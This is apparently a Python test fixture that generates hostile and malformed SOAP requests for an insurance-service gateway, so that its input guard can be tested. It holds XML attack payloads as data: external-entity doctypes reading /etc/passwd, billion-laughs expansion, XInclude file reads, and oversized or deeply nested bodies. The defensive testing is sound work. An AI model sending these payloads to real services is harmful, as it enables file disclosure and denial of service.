"""Hostile and broken SOAP requests, made of two good ones; nobody's real data is in them."""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

from tests.channels.soap_calls import DCEXCHANGE, IDENTIFICATION, SOAP11, SOAP12, envelope

SURNAME = "Тайнописцев"
PERSON = f"<u:FullName><u:FamilyName>{SURNAME}</u:FamilyName><u:FirstName>Лев</u:FirstName></u:FullName>"
UIR_REQUEST = (
    f'<u:UIRRequest2 xmlns:u="http://uir.ffoms.ru">{PERSON}<u:PolicyType>3</u:PolicyType>'
    "<u:PolicyNumber>6394789728269662</u:PolicyNumber><u:InsDate>2026-11-20</u:InsDate></u:UIRRequest2>"
)
DCX_REQUEST = (
    '<d:GetAttachInformation xmlns:d="http://main.dce/"><orderpack><p10_packinf>'
    "<p11_pakagesender>07999</p11_pakagesender><p12_pakageguid>6f1a2b34-0d8e-4f52</p12_pakageguid></p10_packinf>"
    f"<p11_pr><a15_pfio>{SURNAME}</a15_pfio></p11_pr></orderpack>"
    "<username>07999</username><password>Тайный-пароль-1</password><sendercode>07999</sendercode>"
    "</d:GetAttachInformation>"
)
GOOD = {IDENTIFICATION: envelope(UIR_REQUEST, SOAP12), DCEXCHANGE: envelope(DCX_REQUEST, SOAP11)}
TYPES = {IDENTIFICATION: "application/soap+xml; charset=utf-8", DCEXCHANGE: "text/xml; charset=utf-8"}
MIB = 1024 * 1024
XINCLUDE = "http://www.w3.org/2001/XInclude"


@dataclass(frozen=True, slots=True)
class Hostile:
    """One request that must be refused; ``environ`` is what its HTTP said beside the body."""

    name: str
    body: bytes
    path: str = DCEXCHANGE
    content_type: str | None = None
    environ: dict[str, Any] = field(default_factory=dict)


def all_hostile() -> list[Hostile]:
    """Every case under a name of its own."""
    groups = (
        _doctypes,
        _entities,
        _envelopes,
        _broken,
        _encodings,
        _deep_and_wide,
        _operations,
        _headers,
        _transport,
    )
    return [case for group in groups for case in group()]


def _both(name: str, change: Any) -> Iterator[Hostile]:
    """The case against either contract."""
    for path, good in GOOD.items():
        yield Hostile(f"{name} ({path.rsplit('/', 1)[-1]})", change(good), path)


def _doctypes() -> Iterator[Hostile]:
    doctypes = {
        "empty doctype": "<!DOCTYPE e:Envelope>",
        "internal subset": '<!DOCTYPE e [<!ENTITY a "b">]>',
        "system file": '<!DOCTYPE e SYSTEM "file:///etc/passwd">',
        "public address": '<!DOCTYPE e PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://203.0.113.1/x.dtd">',
        "external entity": '<!DOCTYPE e [<!ENTITY x SYSTEM "file:///etc/hostname">]>',
        "parameter entity": '<!DOCTYPE e [<!ENTITY % p SYSTEM "http://203.0.113.1/p"> %p;]>',
        "billion laughs": "<!DOCTYPE e [<!ENTITY a0 'ha'>"
        + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
        + "]>",
        "quadratic blowup": f"<!DOCTYPE e [<!ENTITY a '{'a' * 50_000}'>]>",
        "attribute default": '<!DOCTYPE e [<!ATTLIST e x CDATA "y">]>',
        "behind a comment": "<!-- x --><!DOCTYPE e>",
        "behind an instruction": "<?x y?><!DOCTYPE e>",
        "behind comments with marks": "<!-- <!x> --><!-- --><?a ?><!DOCTYPE e [ ]>",
        "behind blanks": "\n\t  \r\n<!DOCTYPE e>",
        "with a declaration": '<?xml version="1.0"?>\n<!DOCTYPE e>',
        "in small letters": "<!doctype e>",
    }
    for name, doctype in doctypes.items():
        yield from _both(f"doctype: {name}", lambda good, doctype=doctype: doctype.encode() + good)
    wide = '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE e [<!ENTITY a "b">]>' + GOOD[DCEXCHANGE].decode()
    yield Hostile("doctype: in utf-16", wide.encode("utf-16"))
    yield Hostile("doctype: in utf-16 without a mark", wide.encode("utf-16-le"))


def _entities() -> Iterator[Hostile]:
    for name, entity in {
        "undeclared": "&xxe;",
        "html": "&nbsp;",
        "parameter": "&%p;",
        "bare": "&",
        "open": "&amp",
    }.items():
        yield from _both(f"entity: {name}", lambda good, entity=entity: good.replace(SURNAME.encode(), entity.encode()))
    for name, reference in {"null": "&#0;", "surrogate": "&#xD800;", "beyond": "&#x110000;", "noise": "&#x;"}.items():
        yield from _both(
            f"character: {name}", lambda good, reference=reference: good.replace(SURNAME.encode(), reference.encode())
        )


def _envelopes() -> Iterator[Hostile]:
    body = f"<e:Body>{DCX_REQUEST}</e:Body>"
    open_envelope = f'<e:Envelope xmlns:e="{SOAP11}">'
    cases = {
        "second body": f"{open_envelope}{body}{body}</e:Envelope>",
        "second body of the other version": f'{open_envelope}{body}<o:Body xmlns:o="{SOAP12}"/></e:Envelope>',
        "two children": envelope(DCX_REQUEST * 2).decode(),
        "empty body": envelope("").decode(),
        "body of text": envelope("привет").decode(),
        "no body": f"{open_envelope}</e:Envelope>",
        "header only": f"{open_envelope}<e:Header/></e:Envelope>",
        "header behind the body": f"{open_envelope}{body}<e:Header/></e:Envelope>",
        "two headers": f"{open_envelope}<e:Header/><e:Header/>{body}</e:Envelope>",
        "element behind the body": f"{open_envelope}{body}<x/></e:Envelope>",
        "body of the other version": f'{open_envelope}<o:Body xmlns:o="{SOAP12}">{DCX_REQUEST}</o:Body></e:Envelope>',
        "envelope without a namespace": f"<Envelope><Body>{DCX_REQUEST}</Body></Envelope>",
        "envelope of another namespace": f'<e:Envelope xmlns:e="urn:x">{body}</e:Envelope>',
        "no envelope": DCX_REQUEST,
        "envelope in an envelope": envelope(envelope(DCX_REQUEST).decode()).decode(),
        "fault as a request": envelope("<e:Fault><faultcode>e:Client</faultcode></e:Fault>").decode(),
        "body inside the header": f"{open_envelope}<e:Header>{body}</e:Header></e:Envelope>",
        "many children": envelope("<a/>" * 50_000).decode(),
        "include": f'{open_envelope}<x:include xmlns:x="{XINCLUDE}" href="/etc/passwd"/></e:Envelope>',
        "include in the body": envelope(
            f'<x:include xmlns:x="{XINCLUDE}" parse="text" href="file:///etc/passwd"/>'
        ).decode(),
        "html": "<!-- --><html><body>Войдите в сеть</body></html>",
        "json": '{"UIRRequest2": {}}',
        "form": "UIRRequest2=1&x=2",
        "digits": "0",
        "blanks": " \n\t ",
        "zero bytes": "\0" * 4096,
    }
    for name, text in cases.items():
        yield Hostile(f"envelope: {name}", text.encode())


def _broken() -> Iterator[Hostile]:
    dice = random.Random(20261120)
    for path, good in GOOD.items():
        short = path.rsplit("/", 1)[-1]
        for part in sorted({1, 7, 40, len(good) - 1, *range(len(good) // 30, len(good) - 2, len(good) // 30)}):
            yield Hostile(f"truncated at {part} ({short})", good[:part], path)
        marks = [place for place, sign in enumerate(good) if sign in b"<>"]
        for place in sorted(dice.sample(marks, min(35, len(marks)))):
            flipped = bytearray(good)
            flipped[place] ^= 1 << dice.randrange(7)
            yield Hostile(f"bit flipped at {place} ({short})", bytes(flipped), path)
        yield Hostile(f"doubled ({short})", good * 2, path)
        yield Hostile(f"garbage behind ({short})", good + b"\xff\xfe", path)
        yield Hostile(f"reversed ({short})", good[::-1], path)
        yield Hostile(f"attribute twice ({short})", good.replace(b"<e:Body>", b"<e:Body a='1' a='2'>"), path)
        yield Hostile(f"undeclared prefix ({short})", good.replace(b"<e:Body>", b"<e:Body><q:x/>"), path)


def _encodings() -> Iterator[Hostile]:
    for name in (
        "utf-16",
        "utf-32",
        "utf-7",
        "ebcdic-cp-us",
        "windows-9999",
        "ascii",
        "x" * 200,
        "big5",
        "idna",
        "rot13",
    ):
        declaration = f'<?xml version="1.0" encoding="{name}"?>'.encode()
        yield from _both(f"encoding: declared as {name[:20]}", lambda good, text=declaration: text + good)
    yield Hostile("encoding: utf-32", GOOD[DCEXCHANGE].decode().encode("utf-32"))
    yield Hostile("encoding: overlong slash", GOOD[DCEXCHANGE].replace(b"/", b"\xc0\xaf", 1), DCEXCHANGE)
    utf = b'<?xml version="1.0" encoding="utf-8"?>'
    yield Hostile("encoding: broken utf-8", utf + GOOD[DCEXCHANGE].replace(SURNAME.encode(), b"\xc3\x28\xff"))
    yield Hostile("encoding: surrogate in utf-8", utf + GOOD[DCEXCHANGE].replace(SURNAME.encode(), b"\xed\xa0\x80"))
    yield Hostile(
        "encoding: declaration inside", GOOD[DCEXCHANGE].replace(b"<e:Body>", b"<e:Body><?xml version='1.0'?>")
    )
    yield Hostile("encoding: version 9", b'<?xml version="9"?><?xml version="1.0"?>' + GOOD[DCEXCHANGE])


def _deep_and_wide() -> Iterator[Hostile]:
    for depth in (70, 300, 20_000, 100_000):
        yield Hostile(f"deep: {depth}", envelope("<a>" * depth + "</a>" * depth))
    yield Hostile("deep: a million open tags", b"<a>" * 300_000, IDENTIFICATION)
    yield Hostile("deep: namespaces", envelope("<a xmlns='urn:1'>" * 2000 + "</a>" * 2000))
    yield Hostile("wide: attribute of a megabyte", envelope(f"<a b='{'x' * MIB}'/>"))
    yield Hostile("wide: text of twelve megabytes", envelope(f"<a>{'x' * (12 * MIB)}</a>"))
    yield Hostile("wide: name of a megabyte", envelope(f"<{'a' * MIB}/>"))
    attributes = " ".join(f"b{n}='1'" for n in range(50_000))
    yield Hostile("wide: attributes", envelope(f"<a {attributes}/>"))
    namespaces = " ".join(f"xmlns:n{n}='urn:{n}'" for n in range(20_000))
    yield Hostile("wide: namespaces", envelope(f"<a {namespaces}/>"))
    yield Hostile("wide: comment", b"<!--" + b"x" * MIB + b"-->" + envelope("<a/>"))
    yield Hostile("wide: comment never closed", b"<!--" + b"-x" * 500_000)
    yield Hostile("wide: section never closed", envelope("<a/>").replace(b"<a/>", b"<a><![CDATA[" + b"]" * 500_000))
    yield Hostile("wide: beyond the limit", envelope(UIR_REQUEST + " " * MIB, SOAP12), IDENTIFICATION)


def _operations() -> Iterator[Hostile]:
    for name in ("Nope", "makeattachaction", "MakeAttachActionResponse", "cPerson", "GetMedInsState", "a" * 5000):
        yield Hostile(f"operation: {name[:30]}", envelope(f'<d:{name} xmlns:d="http://main.dce/"/>'))
    for namespace in ("http://main.dce", "http://MAIN.dce/", "https://main.dce/", "urn:x", ""):
        content = DCX_REQUEST.replace("http://main.dce/", namespace) if namespace else "<GetAttachInformation/>"
        yield Hostile(f"operation: namespace '{namespace}'", envelope(content))
    for path, content in ((DCEXCHANGE, UIR_REQUEST), (IDENTIFICATION, DCX_REQUEST)):
        yield Hostile(f"operation: of the other contract at {path}", envelope(content), path)
    yield Hostile("operation: of an older year", envelope('<d:getEvPlanTnsfs xmlns:d="http://main.dce/"/>'))
    yield Hostile(
        "operation: response as a request", envelope('<u:UIRResponse xmlns:u="http://uir.ffoms.ru"/>'), IDENTIFICATION
    )


def _headers() -> Iterator[Hostile]:
    security = "http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd"
    for namespace, request, path in ((SOAP11, DCX_REQUEST, DCEXCHANGE), (SOAP12, UIR_REQUEST, IDENTIFICATION)):
        for value in ("1", "true", " 1 "):
            block = f'<w:Security xmlns:w="{security}" e:mustUnderstand="{value}"/>'
            yield Hostile(
                f"header: must be understood, '{value}' ({path.rsplit('/', 1)[-1]})",
                envelope(request, namespace, f"<e:Header>{block}</e:Header>"),
                path,
            )


def _transport() -> Iterator[Hostile]:
    good = GOOD[DCEXCHANGE]
    for content_type in (
        'multipart/related; type="application/xop+xml"; boundary=b',
        "multipart/form-data; boundary=b",
        "application/xop+xml",
        "application/json",
        "application/x-www-form-urlencoded",
        "text/plain",
        "application/xml",
        "text/xml; charset=utf-7",
        "text/xml; charset=idna",
        "text/xml-external",
        ";;;=",
        "",
    ):
        yield Hostile(f"transport: content type '{content_type}'", good, content_type=content_type)
    old = good.decode().encode("cp1251")
    for charset in ("; charset=utf-8", "", "; charset=us-ascii", "; charset=utf-16"):
        yield Hostile(f"transport: windows-1251 declared nowhere{charset}", old, content_type=f"text/xml{charset}")
    yield Hostile("transport: utf-8 told as windows-1251", good, content_type="text/xml; charset=windows-1251")
    yield Hostile("transport: empty", b"")
    yield Hostile("transport: gzip said", good, environ={"HTTP_CONTENT_ENCODING": "gzip"})
    lengths = {
        "absent": None,
        "negative": "-1",
        "words": "many",
        "huge": "9" * 30,
        "2 GB": str(2**31),
        "longer": "99999",
    }
    for name, length in (
        lengths | {"decimal": "1.5", "other digits": "١٢", "of nothing": "0", "shorter": "100"}
    ).items():
        yield Hostile(f"transport: length {name}", good, environ={"CONTENT_LENGTH": length})
    yield Hostile(
        "transport: chunks without end",
        good,
        environ=in_chunks(Endless()),
        path=IDENTIFICATION,
        content_type="text/xml",
    )
    yield Hostile(
        "transport: neither length nor chunks", good, environ={"CONTENT_LENGTH": None, "wsgi.input_terminated": True}
    )
    yield Hostile("transport: cut connection", good, environ={"wsgi.input": CutOff()})


def in_chunks(stream: Any) -> dict[str, Any]:
    """What a server says of a body that comes in chunks."""
    terminated = {"wsgi.input_terminated": True, "HTTP_TRANSFER_ENCODING": "chunked"}
    return terminated | {"CONTENT_LENGTH": None, "wsgi.input": stream}


class Endless:
    """A stream that never ends; it counts what was taken from it."""

    def __init__(self) -> None:
        self.taken = 0

    def read(self, size: int = -1) -> bytes:
        """As many bytes as were asked for."""
        assert 0 < size <= MIB, "the guard must read in bounded pieces"
        self.taken += size
        return b" " * size


class CutOff:
    """A stream whose other end is gone."""

    def read(self, _size: int = -1) -> bytes:
        """Fails as a socket does."""
        raise ConnectionResetError("peer is gone")
